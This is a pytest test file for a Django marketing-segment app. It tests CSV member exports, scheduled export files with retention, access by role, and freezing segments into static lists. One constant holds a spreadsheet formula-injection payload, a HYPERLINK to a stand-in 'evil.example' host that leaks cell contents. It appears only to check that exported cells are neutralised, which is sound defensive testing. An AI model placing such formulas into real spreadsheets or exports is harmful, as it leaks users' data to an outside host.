"""Member exports: the streamed CSV on demand (formula-safe cells, search, who may), scheduled exports kept as
files that Marketing and admins download and that the beat sweep deletes after their retention, and freezing a
segment into a static list."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.files.storage import default_storage
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from cdp.models import Profile
from segments.models import ExportFile, ExportSchedule, Membership, Segment
from segments.rules import validate_rule
from segments.services import exports, refresh
from segments.services.definitions import rule_facts
from segments.tasks import activation_sweep

MODEL_BACKEND = "django.contrib.auth.backends.ModelBackend"
PRO = {"type": "all", "conditions": [{"type": "trait", "key": "plan", "op": "equals", "value": "pro"}]}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def segment(db):
    return Segment.objects.create(name="Pro", definition=PRO, mode="realtime", **rule_facts(validate_rule(PRO)))


def members(segment, *names: str) -> list[Profile]:
    profiles = [Profile.objects.create(traits={"plan": "pro", "name": n}) for n in names]
    refresh.segment_refresh(segment_id=segment.pk)
    return profiles


def login(client, user):
    client.force_login(user, backend=MODEL_BACKEND)
    return client


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # UTF-8 with a BOM: spreadsheet apps read it as UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


# --- on demand ---------------------------------------------------------------------------------------------

def test_the_members_csv_is_streamed_with_formula_cells_neutralised(client, marketing_user, segment):
    ann, evil, minus = members(segment, "Ann Ähm", EVIL, "-2+3")
    Profile.objects.create(traits={"plan": "free", "name": "Not a member"})
    response = login(client, marketing_user).get(reverse("segments:export", args=[segment.pk]))
    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="segment-{segment.pk}-members.csv"'
    rows = parse(b"".join(response.streaming_content).decode("utf-8"))
    assert rows[0] == ["profile_id", "name", "member_since"]
    by_id = {int(r[0]): r for r in rows[1:]}
    assert set(by_id) == {ann.pk, evil.pk, minus.pk}
    assert by_id[ann.pk][1] == "Ann Ähm"
    assert by_id[evil.pk][1] == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert by_id[minus.pk][1] == "'-2+3"
    since = Membership.objects.get(segment=segment, profile_id=ann.pk).entered_at
    assert dt.datetime.fromisoformat(by_id[ann.pk][2]) == since


def test_the_members_csv_follows_the_search_and_reads_in_a_few_queries(client, marketing_user, segment,
                                                                        django_assert_max_num_queries):
    profiles = members(segment, *[f"Person {i}" for i in range(60)])
    login(client, marketing_user)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("segments:export", args=[segment.pk]))
        rows = parse(b"".join(response.streaming_content).decode())
    assert len(rows) == 61
    response = client.get(reverse("segments:export", args=[segment.pk]), {"q": str(profiles[7].pk)})
    rows = parse(b"".join(response.streaming_content).decode())
    assert [r[0] for r in rows[1:]] == [str(profiles[7].pk)]


@pytest.mark.parametrize("role", ["sales_user", "support_user"])
def test_only_marketing_and_admins_export_members(client, request, segment, role):
    members(segment, "Ann")
    login(client, request.getfixturevalue(role))
    assert client.get(reverse("segments:export", args=[segment.pk])).status_code == 403
    client.logout()
    response = client.get(reverse("segments:export", args=[segment.pk]))
    assert response.status_code == 302 and "login" in response.url


def test_exporting_a_segment_that_does_not_exist_is_a_404(client, admin_user, db):
    assert login(client, admin_user).get(reverse("segments:export", args=[999999])).status_code == 404


# --- kept files and schedules --------------------------------------------------------------------------------

def test_an_export_file_holds_the_members_and_is_formula_safe(segment, admin_user):
    ann, evil = members(segment, "Ann", EVIL)
    export = exports.export_file_write(segment=segment, by=admin_user)
    assert export.rows == 2 and export.expires_at is None and export.created_by == admin_user
    with default_storage.open(export.file.name, "rb") as fh:
        data = fh.read()
    assert export.size_bytes == len(data)
    rows = parse(data.decode("utf-8"))
    assert rows[0] == ["profile_id", "name", "member_since"]
    assert {(int(r[0]), r[1]) for r in rows[1:]} == {(ann.pk, "Ann"), (evil.pk, "'" + EVIL)}


def test_a_schedule_writes_a_file_when_due_and_again_after_its_interval(segment):
    members(segment, "Ann", "Bob")
    schedule = exports.export_schedule_set(segment=segment, every_hours=6, keep_days=3)
    now = timezone.now()
    assert exports.exports_due(now=now) == 1
    assert exports.exports_due(now=now + dt.timedelta(hours=1)) == 0  # not due again yet
    schedule.refresh_from_db()
    assert schedule.next_run_at == now + dt.timedelta(hours=6)
    export = ExportFile.objects.get()
    assert export.schedule == schedule and export.rows == 2
    assert export.expires_at == now + dt.timedelta(days=3)
    assert exports.exports_due(now=now + dt.timedelta(hours=6)) == 1
    assert ExportFile.objects.count() == 2
    # one schedule per segment: setting it again changes it
    again = exports.export_schedule_set(segment=segment, every_hours=12, keep_days=7, enabled=False)
    assert again.pk == schedule.pk and ExportSchedule.objects.count() == 1
    assert exports.exports_due(now=now + dt.timedelta(days=30)) == 0  # disabled


def test_a_schedule_added_in_the_admin_without_a_first_run_time_runs_at_the_next_sweep(client, admin_user,
                                                                                       segment):
    members(segment, "Ann")
    response = login(client, admin_user).post(reverse("admin:segments_exportschedule_add"), {
        "segment": segment.pk, "every_hours": 24, "keep_days": 30, "enabled": "on", "next_run_at_0": "",
        "next_run_at_1": ""})
    assert response.status_code == 302, response.content.decode()[:2000]
    activation_sweep()
    export = ExportFile.objects.get()
    assert export.rows == 1 and export.schedule.segment == segment
    assert ExportSchedule.objects.get().next_run_at > timezone.now() + dt.timedelta(hours=23)


def test_a_failing_export_is_tried_again_in_an_hour_and_does_not_stop_the_others(segment, settings, tmp_path):
    members(segment, "Ann")
    other = Segment.objects.create(name="Other", definition=PRO, mode="realtime", **rule_facts(validate_rule(PRO)))
    refresh.segment_refresh(segment_id=other.pk)
    first = exports.export_schedule_set(segment=segment, every_hours=24, keep_days=3)
    second = exports.export_schedule_set(segment=other, every_hours=24, keep_days=3)
    blocker = tmp_path / "not-a-directory"
    blocker.write_text("")
    settings.MEDIA_ROOT = blocker  # the storage cannot write: every export fails
    now = timezone.now()
    assert exports.exports_due(now=now) == 0  # no exception: the sweep goes on
    assert not ExportFile.objects.exists()
    for schedule in (first, second):
        schedule.refresh_from_db()
        assert schedule.next_run_at == now + dt.timedelta(hours=1)
    settings.MEDIA_ROOT = tmp_path / "media"
    assert exports.exports_due(now=now + dt.timedelta(minutes=30)) == 0
    assert exports.exports_due(now=now + dt.timedelta(hours=1)) == 2
    assert ExportFile.objects.count() == 2


def test_the_admin_refuses_a_schedule_out_of_range(client, admin_user, segment):
    response = login(client, admin_user).post(reverse("admin:segments_exportschedule_add"), {
        "segment": segment.pk, "every_hours": 0, "keep_days": 30, "enabled": "on", "next_run_at_0": "",
        "next_run_at_1": ""})
    assert response.status_code == 200  # the form again, with the error at its field
    assert "Export every 1 to 744 hours." in response.content.decode()
    assert not ExportSchedule.objects.exists()


@pytest.mark.parametrize(("every_hours", "keep_days", "field"), [(0, 30, "every_hours"), (24, 0, "keep_days"),
                                                                 (24 * 32, 30, "every_hours")])
def test_schedule_settings_out_of_range_are_refused(segment, every_hours, keep_days, field):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError) as exc:
        exports.export_schedule_set(segment=segment, every_hours=every_hours, keep_days=keep_days)
    assert field in exc.value.message_dict
    assert not ExportSchedule.objects.exists()


def test_the_sweep_deletes_files_past_their_retention_and_keeps_the_others(segment):
    members(segment, "Ann")
    schedule = exports.export_schedule_set(segment=segment, every_hours=24, keep_days=2)
    now = timezone.now()
    old = exports.export_file_write(segment=segment, schedule=schedule, now=now - dt.timedelta(days=3))
    recent = exports.export_file_write(segment=segment, schedule=schedule, now=now - dt.timedelta(days=1))
    on_demand = exports.export_file_write(segment=segment, now=now - dt.timedelta(days=400))  # no retention
    ExportSchedule.objects.filter(pk=schedule.pk).update(next_run_at=now + dt.timedelta(hours=1))
    assert default_storage.exists(old.file.name)
    activation_sweep()
    assert set(ExportFile.objects.values_list("pk", flat=True)) == {recent.pk, on_demand.pk}
    assert not default_storage.exists(old.file.name)  # the file itself is gone (personal data)
    assert default_storage.exists(recent.file.name) and default_storage.exists(on_demand.file.name)


def test_marketing_and_admins_download_kept_files_others_cannot(client, request, segment, admin_user,
                                                                 marketing_user, sales_user):
    members(segment, "Ann", EVIL)
    export = exports.export_file_write(segment=segment)
    url = reverse("segments:export-file", args=[export.pk])
    for user in (admin_user, marketing_user):
        response = login(client, user).get(url)
        assert response.status_code == 200
        assert "attachment" in response["Content-Disposition"]
        rows = parse(b"".join(response.streaming_content).decode())
        assert len(rows) == 3 and "'" + EVIL in [r[1] for r in rows]
    assert login(client, sales_user).get(url).status_code == 403
    assert login(client, admin_user).get(reverse("segments:export-file", args=[export.pk + 1000])).status_code == 404
    default_storage.delete(export.file.name)
    assert client.get(url).status_code == 404  # a file gone from storage is a 404, not a 500


def test_the_admin_lists_kept_files_with_a_download_link_and_deleting_one_deletes_the_file(client, admin_user,
                                                                                           segment):
    members(segment, "Ann")
    export = exports.export_file_write(segment=segment)
    login(client, admin_user)
    listing = client.get(reverse("admin:segments_exportfile_changelist")).content.decode()
    assert reverse("segments:export-file", args=[export.pk]) in listing
    assert "/media/" not in listing  # media files are not served: the link goes through the download view
    response = client.post(reverse("admin:segments_exportfile_delete", args=[export.pk]), {"post": "yes"})
    assert response.status_code == 302
    assert not ExportFile.objects.exists() and not default_storage.exists(export.file.name)


# --- freezing ---------------------------------------------------------------------------------------------------

def test_a_frozen_list_keeps_its_members_when_the_source_changes(segment, marketing_user):
    ann, bob = members(segment, "Ann", "Bob")
    frozen = exports.segment_freeze(segment=segment, name="Pro on launch day", by=marketing_user)
    assert frozen.mode == Segment.Mode.STATIC and frozen.size == 2 and frozen.created_by == marketing_user
    assert set(Membership.objects.filter(segment=frozen, exited_at__isnull=True)
               .values_list("profile_id", flat=True)) == {ann.pk, bob.pk}
    Profile.objects.filter(pk=bob.pk).update(traits={"plan": "free", "name": "Bob"})
    carl = Profile.objects.create(traits={"plan": "pro", "name": "Carl"})
    refresh.segment_refresh(segment_id=segment.pk)
    assert refresh.segment_refresh(segment_id=frozen.pk).skipped
    refresh.profiles_check(profile_ids=[bob.pk, carl.pk])
    assert set(Membership.objects.filter(segment=segment, exited_at__isnull=True)
               .values_list("profile_id", flat=True)) == {ann.pk, carl.pk}
    assert set(Membership.objects.filter(segment=frozen, exited_at__isnull=True)
               .values_list("profile_id", flat=True)) == {ann.pk, bob.pk}


def test_another_segment_can_use_a_frozen_list(segment):
    ann, bob = members(segment, "Ann", "Bob")
    frozen = exports.segment_freeze(segment=segment)
    rule = {"type": "all", "conditions": [{"type": "segment", "segment": frozen.pk, "member": True},
                                          {"type": "trait", "key": "name", "op": "equals", "value": "Bob"}]}
    user = Segment.objects.create(name="Bob of the launch list", definition=rule, mode="realtime",
                                  **rule_facts(validate_rule(rule)))
    outcome = refresh.segment_refresh(segment_id=user.pk)
    assert sorted(outcome.entered) == [bob.pk]


def test_freezing_from_the_segment_page(client, marketing_user, sales_user, segment):
    members(segment, "Ann")
    login(client, marketing_user)
    page = client.get(reverse("segments:detail", args=[segment.pk])).content.decode()
    assert reverse("segments:freeze", args=[segment.pk]) in page
    response = client.post(reverse("segments:freeze", args=[segment.pk]), {"name": "Launch list"})
    frozen = Segment.objects.get(name="Launch list")
    assert response.status_code == 302 and response.url == reverse("segments:detail", args=[frozen.pk])
    page = client.get(response.url).content.decode()
    assert "1 member(s) copied" in page and "Static list (frozen)" in page
    assert reverse("segments:freeze", args=[frozen.pk]) not in page  # a frozen list is not frozen again
    # the same name again: a message on the page, no second list, no 500
    response = client.post(reverse("segments:freeze", args=[segment.pk]), {"name": "Launch list"}, follow=True)
    assert response.status_code == 200 and "exists already" in response.content.decode()
    assert Segment.objects.filter(name="Launch list").count() == 1
    assert client.get(reverse("segments:freeze", args=[segment.pk])).status_code == 405
    login(client, sales_user)
    assert client.post(reverse("segments:freeze", args=[segment.pk])).status_code == 403
